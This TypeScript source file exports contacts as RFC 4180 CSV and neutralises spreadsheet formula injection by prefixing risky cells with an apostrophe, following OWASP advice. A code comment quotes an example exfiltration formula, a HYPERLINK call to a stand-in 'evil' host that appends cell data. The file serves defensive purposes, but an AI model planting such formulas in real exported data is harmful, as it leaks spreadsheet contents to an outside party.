// Writes a list's contacts as CSV (RFC 4180: CRLF line ends, a field quoted when it holds a quote, comma or line break,
// or starts or ends with a space), with a BOM so that spreadsheets read it as UTF-8. The columns: email, status, then
// every variable any contact has, in the order they first appear; the console's import reads such a file back
// (read-contacts.ts: the status column is not a variable, and the apostrophes below are taken off again).
//
// Contacts are anyone's input (a signup form fills the variables): a cell such as `=HYPERLINK("https://evil/?"&A1)`
// would be a formula when the export is opened in a spreadsheet. As OWASP's "CSV Injection" page advises, a cell that
// starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe, which spreadsheets read as "text".
import type { VariableValue } from './read-contacts.js'

/** A cell a spreadsheet reads as a formula (OWASP's list), after any apostrophes the export put before it. */
export const FORMULA_START = /^'*[=+\-@\t\r]/

export interface ExportedContact {
  email: string
  status_explain: string
  variables: Record<string, VariableValue>
}

export function contactsCsv(contacts: readonly ExportedContact[]): string {
  const names = new Set<string>()
  for (const contact of contacts) for (const name of Object.keys(contact.variables)) names.add(name)
  const variables = [...names]
  const lines = [['email', 'status', ...variables], ...contacts.map((c) => [c.email, c.status_explain, ...variables.map((name) => String(c.variables[name] ?? ''))])]
  return '\ufeff' + lines.map((fields) => fields.map((field) => csvField(spreadsheetText(field))).join(',') + '\r\n').join('')
}

/**
 * The cell as a spreadsheet shows it as text: an apostrophe before a formula's first character. A value that already
 * starts with apostrophes before one gets one more, so that the import, which takes one off, gives every value back.
 */
export function spreadsheetText(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value
}

export function csvField(value: string): string {
  return /[",\r\n]|^\s|\s$/.test(value) ? `"${value.replaceAll('"', '""')}"` : value
}
